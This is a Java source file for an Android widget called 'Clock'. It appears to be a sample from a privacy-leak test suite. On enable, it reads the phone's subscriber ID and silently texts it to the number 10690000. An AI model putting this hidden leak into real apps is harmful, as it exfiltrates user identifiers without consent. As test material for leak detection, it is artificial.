package cn.privlens.suite.widget_declared;

import android.appwidget.AppWidgetProvider;
import android.content.Context;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Clock extends AppWidgetProvider {
    @Override
    public void onEnabled(Context context) {
        SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getSubscriberId(), null, null);
    }
}
